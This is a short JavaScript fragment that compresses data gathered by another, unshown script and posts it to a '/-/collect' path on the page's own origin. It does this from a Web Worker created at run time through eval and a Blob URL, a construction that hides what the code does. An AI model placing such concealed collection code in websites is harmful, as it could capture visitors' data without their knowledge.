// Packs what the other script kept, in a worker that is made at run time, and sends it
// to the site's own host.
const work = `onmessage = async ({data}) => {
  const packed = new Blob([JSON.stringify(data)]).stream().pipeThrough(new CompressionStream("gzip"));
  fetch("${location.origin}/-/collect", {method: "POST", body: await new Response(packed).blob()});
}`;
eval("new Worker(URL.createObjectURL(new Blob([work])))").postMessage(kept);
